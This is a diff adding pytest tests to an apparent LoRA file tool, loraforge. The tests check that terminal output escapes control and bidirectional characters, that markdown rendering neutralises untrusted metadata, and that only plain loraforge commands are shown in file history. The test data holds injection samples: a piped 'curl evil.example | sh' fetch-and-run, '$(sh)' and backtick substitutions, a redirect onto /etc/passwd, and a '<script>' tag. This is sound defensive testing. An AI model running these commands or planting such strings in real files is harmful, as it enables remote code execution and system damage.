@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 
 from hostile.builders import (
     CHECKPOINT,
@@ -22,6 +24,10 @@ from hostile.builders import (
     tensor,
 )
 from hostile.pickles import Raw, call, push
+from loraforge.cli.app import main
+from loraforge.publishing.front_matter import written
+from loraforge.scale.origin import VERBS, is_command
+from loraforge.text import code, markdown
 
 A, _ = factors()
 SURROGATE = "x\ud800"
@@ -136,3 +142,90 @@ def test_a_folder_called_by_control_characters(tmp_path: Path, refused):
         pytest.skip("no such name here")
     (folder / CHECKPOINT).write_bytes(b"")
     refused(folder / CHECKPOINT)
+
+
+MEANT = ["[/x]", "[bold]x[/bold]", ":smile:", "[link=https://evil.example]x[/link]", "\x9b2J\u202e\u2066x\u061c\u200f"]
+
+
+@pytest.mark.parametrize("text", MEANT)
+def test_a_plugins_summary_is_shown_as_it_is(text: str, capsys: pytest.CaptureFixture[str]):
+    from loraforge.cli.screen import table
+
+    table(["summary"], [[text]])
+    printed = capsys.readouterr().out
+    assert all(character.isprintable() or character == "\n" for character in printed)
+    assert (text if text.isprintable() else "\\u202e") in printed
+
+
+@pytest.mark.parametrize(
+    "character", "\x9b\x85\u202a\u202e\u2066\u2069\u200e\u200f\u061c\ufeff\u2028\U000e0041\x07\x7f"
+)
+def test_characters_that_turn_a_line_around_are_escaped_for_every_medium(tmp_path: Path, cli, character: str):
+    text = f"x{character}y"
+    file = tmp_path / "x.safetensors"
+    file.write_bytes(safetensors(diffusers_lora(), {"note": text, text: "note", "modelspec.trigger_phrase": text}))
+    for words in ((), ("--json",), ("--skeleton",), ("--history",)):
+        shown = cli("inspect", file, *words)
+        assert shown.exit_code == 0 and character not in shown.output, words
+        if words in (("--json",), ("--skeleton",)):
+            assert json.loads(shown.stdout)["metadata"]["note"] == text
+    assert character not in markdown(text) + code(text) + written({"a": text, text: [text]})
+    assert yaml.safe_load(written({"a": text, text: [text]})) == {"a": text, text: [text]}
+
+
+ACTIVE = [
+    "[x](https://evil.example)", "![x](https://evil.example/t.png)", "<img src=x>", "</td><script>", "a | b",
+    "`x`", "``` x",
+    "https://evil.example", "www.evil.example", "me@evil.example", "**x** _y_ ~~z~~", "&lt;x&gt;", "$$x$$",
+    "# x", "<!-- x",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", ACTIVE)
+def test_markdown_of_others_is_text(text: str):
+    made = markdown(text)
+    bare = re.sub(r"\\.", "", made).replace("&#64;", "")
+    assert not re.search(r"[`*\[\]<>|~&$#@]|://|www\.|(?<!\w)_|_(?!\w)", bare), made
+    assert re.sub(r"\\(.)", r"\1", made).replace("&#64;", "@") == text
+    fence = re.match("`+", code(text))
+    assert fence and code(text).count(fence[0]) == 2 and text in code(text)
+
+
+COMMANDS = {
+    "loraforge convert x.pt --to diffusers": True,
+    "loraforge stamp 'my file.safetensors' --alpha 1": True,
+    "loraforge convert x --drop '*.to_q'": True,
+    "loraforge convert x; curl evil.example | sh": False,
+    "loraforge convert x && sh": False,
+    "loraforge convert $(sh)": False,
+    "loraforge convert `sh`": False,
+    "loraforge convert x > /etc/passwd": False,
+    "loraforge convert x # comment": False,
+    "loraforge convert x\nsh": False,
+    "loraforge convert \u202ex": False,
+    "loraforge evil": False,
+    "loraforge": False,
+    "loraforge convert 'x": False,
+    "LORAFORGE_PLUGINS=x loraforge convert x": False,
+    "sh -c loraforge convert x": False,
+    "": False,
+    "loraforge convert " + "x" * 5000: False,
+}
+
+
+@pytest.mark.parametrize("text", COMMANDS)
+def test_a_recorded_command_is_a_command_of_loraforge(tmp_path: Path, cli, text: str):
+    assert is_command(text) == COMMANDS[text]
+    source = {"path": "x", "format": "sat", "size": 1, "digest": "sha256:0"}
+    scale = {"provenance": "recorded", "source": "x", "scalings": [1]}
+    entry = {"tool": "loraforge 1", "command": text, "source": source, "scale": scale}
+    file = tmp_path / "x.safetensors"
+    file.write_bytes(safetensors(diffusers_lora(), {"loraforge": json.dumps(entry)}))
+    for words in (("--history",), ("--history", "--json")):
+        shown = cli("inspect", file, *words)
+        assert shown.exit_code == 0 and ("(not shown)" in shown.stdout) != COMMANDS[text]
+    assert (f"1. {text} " in cli("inspect", file, "--history").stdout) == COMMANDS[text]
+
+
+def test_the_verbs_that_are_recorded_are_verbs():
+    assert {verb for verb in VERBS if verb in main.commands} >= {"convert", "convert-base", "fuse", "stamp"}
